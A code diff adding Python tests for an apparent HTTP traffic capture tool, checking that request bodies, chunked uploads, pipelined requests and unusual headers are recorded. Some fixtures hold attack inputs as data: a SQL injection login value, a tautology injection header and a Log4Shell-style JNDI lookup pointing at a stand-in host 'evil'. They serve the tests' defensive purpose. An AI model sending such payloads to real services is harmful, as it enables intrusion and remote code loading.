@@ -67,6 +67,83 @@ def test_requests_in_one_segment_are_told_apart() -> None:
     assert said(*requests(talk)) == [("/a", 201), ("/b", 202), ("/c", 203)]
 
 
+FORM = "Content-Type: application/x-www-form-urlencoded\r\n"
+
+
+def sent(body: bytes, more: str = FORM) -> bytes:
+    return asked("/login", f"{more}Content-Length: {len(body)}\r\n", "POST") + body
+
+
+def bodies(talk: wire.Talk, step: int = 1 << 20) -> list[object]:
+    return [one.fields.get("request_body") for one in requests(talk, step)]
+
+
+def test_what_a_form_sends_is_kept_however_it_comes() -> None:
+    form = b"user=x'+OR+1=1--&pw=a"
+    whole = wire.Talk().opened().say(sent(form)).hear(told())
+    pieces = wire.Talk().opened().say(*wire.split(sent(form), 40, 150, 170)).hear(told())
+    waiting = wire.Talk().opened().say(sent(form)[: -len(form)]).hear(b"HTTP/1.1 100 Continue\r\n\r\n")
+    for talk in (whole, pieces, waiting.say(form).hear(told())):
+        for step in (1, 1 << 20):
+            assert bodies(talk, step) == [form.decode()]
+            assert said(*requests(talk, step)) == [("/login", 200)]
+
+
+def test_requests_behind_a_body_are_found_and_what_looks_like_one_in_it_is_not() -> None:
+    fake = asked("/fake") + b"x" * 9_000
+    talk = wire.Talk().opened().say(*wire.split(sent(fake), 160, 1_460, 2_920, 5_000))
+    talk.hear(told(201)).say(sent(b"a=1") + asked("/z")).hear(told(202), told(203))
+    for step in (1, 1 << 20):
+        assert said(*requests(talk, step)) == [("/login", 201), ("/login", 202), ("/z", 203)]
+        first, second, third = bodies(talk, step)
+        assert str(first) == fake[:4096].decode()
+        assert (second, third) == ("a=1", None)
+
+
+def test_a_body_in_chunks_is_put_together_and_the_next_request_is_found() -> None:
+    head = asked("/up", FORM + "Transfer-Encoding: chunked\r\n", "POST")
+    chunks = b"5\r\nuser=\r\n3;x=y\r\nann\r\n0\r\n\r\n"
+    for parts in (
+        [head + chunks + asked("/z")],
+        [head, chunks[:9], chunks[9:-3], chunks[-3:], asked("/z")],
+    ):
+        talk = wire.Talk().opened().say(*parts).hear(told(200), told(404))
+        assert bodies(talk) == ["user=ann", None]
+        assert said(*requests(talk)) == [("/up", 200), ("/z", 404)]
+
+
+def test_bodies_that_hold_no_values_are_passed() -> None:
+    for kind in ("image/png", "application/octet-stream", "video/mp4"):
+        talk = wire.Talk().opened().say(sent(b"a=b", f"Content-Type: {kind}\r\n")).hear(told())
+        assert bodies(talk) == [None]
+    for kind in ("application/json; charset=utf-8", "text/xml", "multipart/form-data; boundary=x"):
+        talk = wire.Talk().opened().say(sent(b"a=b", f"Content-Type: {kind}\r\n")).hear(told())
+        assert bodies(talk) == ["a=b"]
+
+
+def test_an_answer_that_does_not_wait_for_the_body_is_the_answer() -> None:
+    talk = (
+        wire.Talk().opened().say(sent(b"a=b")[:-2]).hear(told(413)).say(b"=b", asked("/next")).hear(told(200))
+    )
+    assert said(*requests(talk)) == [("/login", 413), ("/next", 200)]
+
+
+def test_a_body_that_breaks_off_leaves_what_follows_readable() -> None:
+    talk = wire.Talk().opened().say(sent(b"a=" + b"b" * 3_000)[:500])
+    talk.sequence[0] += 60_000
+    talk.say(*[b"b" * 10] * 30)
+    talk.sequence[0] += 1
+    assert said(*requests(talk.say(asked("/next")).hear(told(200)))) == [("/login", 200), ("/next", None)]
+
+
+def test_headers_no_browser_sends_so_are_kept() -> None:
+    more = "X-Api-Version: ${jndi:ldap://evil/a}\r\nX-Plain: 1\r\nX-Tenant: a' OR '1'='1\r\nCookie: a='b'\r\n"
+    talk = wire.Talk().opened().say(asked("/", more)).hear(told()).say(asked("/")).hear(told())
+    odd, plain = requests(talk)
+    assert odd.fields["request_headers"] == "X-Api-Version: ${jndi:ldap://evil/a}\nX-Tenant: a' OR '1'='1"
+    assert "request_headers" not in plain.fields
+
+
 def test_a_body_that_looks_like_a_request_is_none() -> None:
     body = asked("/evil")
     talk = (
